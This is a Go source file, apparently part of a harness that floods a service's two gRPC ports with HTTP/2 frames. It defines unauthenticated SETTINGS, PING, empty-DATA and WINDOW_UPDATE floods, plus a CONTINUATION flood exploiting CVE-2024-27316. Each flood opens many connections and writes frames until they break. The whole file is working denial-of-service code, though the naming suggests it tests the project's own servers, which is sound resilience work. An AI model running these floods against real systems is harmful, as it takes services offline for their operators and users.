package main

import (
	"bytes"
	"context"

	"golang.org/x/net/http2"
)

// controls are floods of frames that cost their sender nothing, on both gRPC ports, without credentials.
var controls = []attack{
	{name: "settings", what: "8 connections send SETTINGS and read no acknowledgement", flood: frameFlood(true, func(h *h2) error {
		return h.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})},
	{name: "ping", what: "8 connections send PING and read no answer", flood: frameFlood(true, func(h *h2) error { return h.framer.WritePing(false, [8]byte{1}) })},
	{name: "empty-data", what: "8 connections send empty DATA on a call", flood: callFlood(func(h *h2, id uint32) error { return h.framer.WriteData(id, false, nil) })},
	{name: "window-update", much: true, what: "8 connections send WINDOW_UPDATE of 1 byte on a call", flood: callFlood(func(h *h2, id uint32) error { return h.framer.WriteWindowUpdate(id, 1) })},
	{name: "continuation", what: "40 connections send heads that never end (CVE-2024-27316)", flood: continuationFlood},
}

// grpcPort is one of the two, in turn.
func grpcPort(t *target, i int) (addr, method string) {
	if i%2 == 0 {
		return t.DevicesGRPC, methodStream
	}
	return t.BackendsGRPC, methodPublishStream
}

// frameFlood sends frames of the connection.
func frameFlood(deaf bool, frame func(h *h2) error) func(ctx context.Context, t *target) {
	return func(ctx context.Context, t *target) {
		t.each(ctx, t.n(8, 8), func(ctx context.Context, i int) error {
			addr, _ := grpcPort(t, i)
			h, err := dialH2(ctx, t, addr, nil, deaf)
			if err != nil {
				return err
			}
			defer h.close()
			return repeat(t, h, func() error { return frame(h) })
		})
	}
}

// callFlood sends frames of one call.
func callFlood(frame func(h *h2, id uint32) error) func(ctx context.Context, t *target) {
	return func(ctx context.Context, t *target) {
		t.each(ctx, t.n(8, 8), func(ctx context.Context, i int) error {
			addr, method := grpcPort(t, i)
			h, err := dialH2(ctx, t, addr, nil, false)
			if err != nil {
				return err
			}
			defer h.close()
			var id uint32
			if err := h.write(func() (err error) { id, err = h.openLocked(method, ""); return err }); err != nil {
				return err
			}
			return repeat(t, h, func() error { return frame(h, id) })
		})
	}
}

// repeat writes frames until the connection breaks.
func repeat(t *target, h *h2, frame func() error) error {
	for {
		err := h.write(func() error {
			for range atOnce {
				if err := frame(); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil {
			return err
		}
		t.count("frames", atOnce)
	}
}

func continuationFlood(ctx context.Context, t *target) {
	// A literal field without indexing: name "x", value of 100 bytes (RFC 7541 6.2.2).
	field := append([]byte{0, 1, 'x', 100}, bytes.Repeat([]byte{'y'}, 100)...)
	part := bytes.Repeat(field, 150)
	t.each(ctx, t.n(40, 16), func(ctx context.Context, i int) error {
		addr, _ := grpcPort(t, i)
		h, err := dialH2(ctx, t, addr, nil, true)
		if err != nil {
			return err
		}
		defer h.close()
		if err := h.write(func() error { return h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: field}) }); err != nil {
			return err
		}
		for {
			if err := h.write(func() error { return h.framer.WriteContinuation(1, false, part) }); err != nil {
				return err
			}
			t.count("frames", 1)
		}
	})
}
